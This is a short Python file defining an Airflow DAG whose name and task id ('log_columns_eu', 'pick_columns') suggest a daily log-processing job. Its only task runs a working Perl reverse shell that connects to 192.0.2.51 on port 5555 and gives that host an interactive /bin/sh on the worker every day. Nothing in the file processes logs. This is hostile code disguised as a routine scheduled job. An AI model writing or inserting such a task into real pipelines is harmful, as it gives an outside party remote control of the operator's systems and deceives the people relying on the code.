from datetime import datetime, timedelta

from airflow.providers.standard.operators.bash import BashOperator
from airflow.sdk import DAG

with DAG(
    dag_id="log_columns_eu",
    schedule="5 0 * * *",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    tags=["logs"],
):
    BashOperator(
        task_id="pick_columns",
        retries=1,
        execution_timeout=timedelta(minutes=10),
        bash_command=(
            "perl -MSocket -e '$i=\"192.0.2.51\";$p=5555;"
            "socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));"
            "open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'"
        ),
    )
